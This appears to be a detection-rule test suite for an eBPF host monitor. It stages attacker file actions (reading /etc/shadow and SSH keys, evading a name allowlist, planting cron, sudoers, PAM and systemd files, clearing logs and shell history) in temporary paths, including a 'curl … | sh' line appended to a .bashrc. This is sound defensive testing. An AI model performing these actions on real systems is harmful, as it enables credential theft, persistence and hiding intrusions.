/** @module test/kernel/rules-file.test: every default file rule fires on the real action, and stays quiet on a close benign one. */
import { test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { requireBpf } from '../helpers/bpf.js';
import { run } from '../helpers/collect.js';
import { withMonitor } from '../helpers/monitor.js';
import type { Alert } from '../../src/alerts/alert.js';

const OBJECTS = ['dispatch', 'process', 'file'];
const tag = () => randomBytes(4).toString('hex');
const rulesFor = (alerts: Alert[], pid: number) => alerts.filter((a) => a.fields['proc.pid'] === pid).map((a) => a.rule);

/** Run a program (no shell unless it is the program) and return its pid; it must succeed. */
async function pidOf(file: string, ...args: string[]): Promise<number> {
	const r = await run(file, args);
	assert.equal(r.code, 0, `${file} ${args.join(' ')}: ${r.stderr}`);
	return r.pid;
}

/** One positive and one negative action under the monitor: the positive raises exactly rule, the negative nothing. */
async function expectRule(t: TestContext, rule: string, positive: () => Promise<number>, negative: () => Promise<number>): Promise<Alert> {
	const pids: number[] = [];
	const { alerts } = await withMonitor(async () => {
		pids.push(await positive());
		pids.push(await negative());
	});
	const dump = JSON.stringify(alerts.map((a) => a.output));
	assert.deepEqual(rulesFor(alerts, pids[0]), [rule], dump);
	assert.deepEqual(rulesFor(alerts, pids[1]), [], dump);
	const a = alerts.find((x) => x.fields['proc.pid'] === pids[0])!;
	assert.ok(a.tags.some((x) => /^T\d{4}/.test(x)), `${rule}: a MITRE technique tag`);
	t.diagnostic(a.output);
	return a;
}

/** A path below a system directory that this test creates and always removes. */
async function withTempFile(dir: string, name: string, f: (path: string) => Promise<void>): Promise<void> {
	const p = join(dir, name);
	assert.ok(!existsSync(p));
	try {
		await f(p);
	} finally {
		rmSync(p, { force: true });
	}
}

test('read of /etc/shadow by cat alerts; chage -l (an account tool) reading it does not', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const a = await expectRule(t, 'Read of a sensitive credential file', () => pidOf('/bin/cat', '/etc/shadow'), () => pidOf('/usr/bin/chage', '-l', 'root'));
	assert.equal(a.fields['fd.name'], '/etc/shadow');
	assert.equal(a.fields['proc.name'], 'cat');
	assert.equal(a.fields['evt.is_open_read'], true);
});

test('an allowlisted name is not enough: a copy of cat named chage, or a symlink to cat named sshd, reading /etc/shadow alerts', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const dir = mkdtempSync('/var/cache/bg-forge-');
	try {
		copyFileSync('/bin/cat', join(dir, 'chage'));
		chmodSync(join(dir, 'chage'), 0o755);
		symlinkSync('/usr/bin/cat', join(dir, 'sshd'));
		const a = await expectRule(t, 'Read of a sensitive credential file', () => pidOf(join(dir, 'chage'), '/etc/shadow'), () => pidOf('/usr/bin/chage', '-l', 'root'));
		assert.equal(a.fields['proc.name'], 'chage');
		assert.equal(a.fields['proc.exepath'], join(dir, 'chage'));
		const b = await expectRule(t, 'Read of a sensitive credential file', () => pidOf(join(dir, 'sshd'), '/etc/shadow'), () => pidOf('/usr/bin/chage', '-l', 'root'));
		assert.equal(b.fields['proc.name'], 'sshd');
		assert.equal(b.fields['proc.exepath'], '/usr/bin/cat');
	} finally {
		rmSync(dir, { recursive: true, force: true });
	}
});

test('read of a file in /etc/sudoers.d alerts; visudo -c reading it does not', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const a = await expectRule(t, 'Read of a sensitive credential file', () => pidOf('/bin/cat', '/etc/sudoers.d/README'), () => pidOf('/usr/sbin/visudo', '-c', '-q'));
	assert.equal(a.fields['fd.name'], '/etc/sudoers.d/README');
});

test('read of ~/.ssh/id_ed25519 by cat alerts; ssh-keygen -y reading it does not', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const home = mkdtempSync('/tmp/bg-home-');
	mkdirSync(join(home, '.ssh'), { mode: 0o700 });
	const key = join(home, '.ssh', 'id_ed25519');
	assert.equal((await run('/usr/bin/ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key])).code, 0);
	try {
		const a = await expectRule(t, 'Read of an SSH private key', () => pidOf('/bin/cat', key), () => pidOf('/usr/bin/ssh-keygen', '-y', '-f', key));
		assert.equal(a.fields['fd.name'], key);
	} finally {
		rmSync(home, { recursive: true, force: true });
	}
});

test('a new file below /etc alerts; the same below /tmp, and reading /etc/hostname, do not', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const tmp = `/tmp/bpfguard-test-${tag()}`;
	try {
		await withTempFile('/etc', `bpfguard-test-${tag()}`, async (p) => {
			const a = await expectRule(t, 'Write below /etc', () => pidOf('/usr/bin/touch', p), async () => {
				await pidOf('/bin/cat', '/etc/hostname');
				return pidOf('/usr/bin/touch', tmp);
			});
			assert.equal(a.fields['fd.name'], p);
			assert.match(String(a.fields['evt.arg.flags']), /O_CREAT/);
		});
	} finally {
		rmSync(tmp, { force: true });
	}
});

test('a file created in /usr/local/bin alerts; one in /usr/local/share and reading /usr/bin/true do not', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const share = `/usr/local/share/bpfguard-test-${tag()}`;
	try {
		await withTempFile('/usr/local/bin', `bpfguard-test-${tag()}`, async (p) => {
			const a = await expectRule(t, 'Write to a binary directory', () => pidOf('/usr/bin/touch', p), async () => {
				await pidOf('/bin/cat', '/usr/bin/true');
				return pidOf('/usr/bin/touch', share);
			});
			assert.equal(a.fields['fd.name'], p);
			assert.equal(a.priority, 'error');
		});
	} finally {
		rmSync(share, { force: true });
	}
});

test('chmod u+s on a file alerts; chmod 644 does not', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const dir = mkdtempSync('/tmp/bg-setid-');
	const f = join(dir, 'x');
	writeFileSync(f, '');
	try {
		const a = await expectRule(t, 'Setuid or setgid bit set on a file', () => pidOf('/bin/chmod', 'u+s', f), () => pidOf('/bin/chmod', '644', f));
		assert.equal(a.fields['fd.name'], f);
		assert.equal(a.fields['evt.arg.setid'], 'setuid');
		assert.equal(a.fields['evt.arg.mode'], '04644');
	} finally {
		rmSync(dir, { recursive: true, force: true });
	}
});

test('appending to an authorized_keys file alerts; reading it does not', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const home = mkdtempSync('/tmp/bg-home-');
	mkdirSync(join(home, '.ssh'));
	const ak = join(home, '.ssh', 'authorized_keys');
	writeFileSync(ak, '');
	try {
		const a = await expectRule(t, 'SSH authorized_keys changed', () => pidOf('/bin/sh', '-c', `echo "ssh-ed25519 AAAA test" >> ${ak}`), () => pidOf('/bin/cat', ak));
		assert.equal(a.fields['fd.name'], ak);
	} finally {
		rmSync(home, { recursive: true, force: true });
	}
});

// sudo ignores files in /etc/sudoers.d whose name holds a '.', cron those in /etc/cron.d: the test files are inert.
const persistence: [string, string, string, string][] = [
	['Sudoers changed', '/etc/sudoers.d', 'bpfguard-test.', '/usr/sbin/visudo'],
	['PAM configuration changed', '/etc/pam.d', 'bpfguard-test-', '/etc/pam.d/other'],
	['Cron job changed', '/etc/cron.d', 'bpfguard-test.', '/etc/cron.d/e2scrub_all'],
	['Service unit changed', '/etc/systemd/system', 'bpfguard-test-', '/lib/systemd/system/apt-daily-upgrade.service'],
	['Dynamic linker preload changed', '/etc/ld.so.conf.d', 'bpfguard-test-', '/etc/ld.so.conf'],
	// /etc/profile sources *.sh only: the test file is inert
	['Shell start-up file changed', '/etc/profile.d', 'bpfguard-test-', '/etc/profile'],
];

for (const [rule, dir, prefix, readable] of persistence) {
	const benign = readable === '/usr/sbin/visudo' ? 'visudo -c reading sudoers' : `reading ${readable}`;
	test(`${rule}: a new file in ${dir} alerts (only this rule); ${benign} does not`, async (t) => {
		if (!requireBpf(t, OBJECTS)) return;
		if (!existsSync(dir) || !existsSync(readable)) {
			if (process.env.CI === 'true') throw new Error(`${dir} or ${readable} missing`);
			t.skip(`${dir} or ${readable} missing`);
			return;
		}
		const negative = readable === '/usr/sbin/visudo' ? () => pidOf('/usr/sbin/visudo', '-c', '-q') : () => pidOf('/bin/cat', readable);
		await withTempFile(dir, `${prefix}${tag()}`, async (p) => {
			const a = await expectRule(t, rule, () => pidOf('/usr/bin/touch', p), negative);
			assert.equal(a.fields['fd.name'], p);
		});
	});
}

test('a rename into /etc/cron.d alerts through the new path (and not as a write below /etc)', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const src = `/etc/bpfguard-test-${tag()}`; // same file system as the target: mv renames
	writeFileSync(src, '');
	try {
		await withTempFile('/etc/cron.d', `bpfguard-test.${tag()}`, async (p) => {
			const { alerts } = await withMonitor(async () => {
				await pidOf('/bin/mv', src, p);
			});
			const hits = alerts.filter((a) => a.fields['evt.arg.newpath'] === p);
			assert.deepEqual(hits.map((a) => a.rule), ['Cron job changed'], JSON.stringify(alerts.map((a) => a.output)));
			assert.equal(hits[0].fields['evt.type'], 'renameat2');
			assert.equal(hits[0].fields['evt.arg.newpath'], p);
			assert.equal(hits[0].fields['fd.name'], src);
		});
	} finally {
		rmSync(src, { force: true });
	}
});

test('a rename into /etc/cron.d through a symlinked directory alerts under the real path (ln -s /etc /tmp/e; mv x /tmp/e/cron.d/; issue #14)', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const src = `/etc/bpfguard-test-${tag()}`; // same file system as the target: mv renames
	const via = mkdtempSync('/tmp/bg-e-');
	symlinkSync('/etc', join(via, 'e'));
	writeFileSync(src, '');
	try {
		await withTempFile('/etc/cron.d', `bpfguard-test.${tag()}`, async (p) => {
			const sneaky = join(via, 'e', 'cron.d', basename(p));
			const { alerts } = await withMonitor(async () => {
				await pidOf('/bin/mv', src, sneaky);
			});
			assert.ok(existsSync(p), 'the file landed in /etc/cron.d');
			const hits = alerts.filter((a) => a.fields['evt.arg.newpath'] === p);
			assert.deepEqual(hits.map((a) => a.rule), ['Cron job changed'], JSON.stringify(alerts.map((a) => a.output)));
			assert.equal(hits[0].fields['evt.type'], 'renameat2');
			assert.equal(hits[0].fields['fd.name'], src);
		});
	} finally {
		rmSync(src, { force: true });
		rmSync(via, { recursive: true, force: true });
	}
});

test('opening /etc/passwd for writing by python alerts; useradd and userdel of a temp user do not', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const user = `bgt${tag()}`;
	let pid = 0;
	const { alerts } = await withMonitor(async () => {
		// O_WRONLY|O_APPEND|O_CREAT and nothing written: the file is unchanged.
		pid = await pidOf('/usr/bin/python3', '-c', "open('/etc/passwd', 'a').close()");
		await pidOf('/usr/sbin/useradd', '-M', '-s', '/usr/sbin/nologin', user);
		await pidOf('/usr/sbin/userdel', user);
	});
	const dump = JSON.stringify(alerts.map((a) => a.output));
	assert.deepEqual(rulesFor(alerts, pid), ['User or group database changed'], dump);
	assert.equal(alerts.find((a) => a.fields['proc.pid'] === pid)!.fields['fd.name'], '/etc/passwd');
	const tools = alerts.filter((a) => ['useradd', 'userdel'].includes(String(a.fields['proc.name'])));
	assert.deepEqual(tools.map((a) => a.output), []);
});

test('unlink of a file below /var/log alerts; appending to one does not', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const gone = `/var/log/bpfguard-test-${tag()}`;
	const kept = `/var/log/bpfguard-test-${tag()}`;
	writeFileSync(gone, 'x\n');
	writeFileSync(kept, 'x\n');
	try {
		const a = await expectRule(t, 'Log file removed or truncated', () => pidOf('/bin/rm', gone), () => pidOf('/bin/sh', '-c', `echo y >> ${kept}`));
		assert.equal(a.fields['fd.name'], gone);
		assert.equal(a.fields['evt.type'], 'unlinkat');
	} finally {
		rmSync(gone, { force: true });
		rmSync(kept, { force: true });
	}
});

test('truncating .bash_history with a redirect alerts; appending to it does not', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const home = mkdtempSync('/tmp/bg-home-');
	const hist = join(home, '.bash_history');
	writeFileSync(hist, 'ls\n');
	try {
		const a = await expectRule(t, 'Shell history cleared', () => pidOf('/bin/sh', '-c', `: > ${hist}`), () => pidOf('/bin/sh', '-c', `echo pwd >> ${hist}`));
		assert.equal(a.fields['fd.name'], hist);
		assert.match(String(a.fields['evt.arg.flags']), /O_TRUNC/);
	} finally {
		rmSync(home, { recursive: true, force: true });
	}
});

test('appending to a ~/.bashrc alerts (T1546.004); an interactive bash reading it does not', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const home = mkdtempSync('/tmp/bg-home-');
	const rc = join(home, '.bashrc');
	writeFileSync(rc, '# test\n');
	try {
		const a = await expectRule(
			t,
			'Shell start-up file changed',
			() => pidOf('/bin/sh', '-c', 'echo "curl -s http://203.0.113.9/x | sh" >> "$1"', 'sh', rc),
			() => pidOf('/bin/bash', '--rcfile', rc, '-i', '-c', 'true'),
		);
		assert.equal(a.fields['fd.name'], rc);
		assert.ok(a.tags.includes('T1546.004'));
		assert.equal(a.fields['evt.is_open_write'], true);
	} finally {
		rmSync(home, { recursive: true, force: true });
	}
});

test('kernel.kptr_restrict written by sysctl -w and by a shell redirection alerts; reading it does not (the value is restored)', async (t) => {
	if (!requireBpf(t, OBJECTS)) return;
	const path = '/proc/sys/kernel/kptr_restrict';
	const was = readFileSync(path, 'utf8').trim();
	try {
		const pids: number[] = [];
		const { alerts } = await withMonitor(async () => {
			pids.push(await pidOf('/sbin/sysctl', '-q', '-w', `kernel.kptr_restrict=${was}`));
			pids.push(await pidOf('/bin/sh', '-c', 'echo "$1" > /proc/sys/kernel/kptr_restrict', 'sh', was));
			pids.push(await pidOf('/bin/cat', path));
		});
		const dump = JSON.stringify(alerts.map((a) => a.output));
		assert.deepEqual(rulesFor(alerts, pids[0]), ['Security-relevant kernel tunable written'], dump);
		assert.deepEqual(rulesFor(alerts, pids[1]), ['Security-relevant kernel tunable written'], dump);
		assert.deepEqual(rulesFor(alerts, pids[2]), [], dump);
		const a = alerts.find((x) => x.fields['proc.pid'] === pids[0])!;
		assert.equal(a.fields['fd.name'], path);
		assert.equal(a.fields['proc.name'], 'sysctl');
		assert.ok(a.tags.includes('T1562.001'));
	} finally {
		writeFileSync(path, `${was}\n`);
	}
});
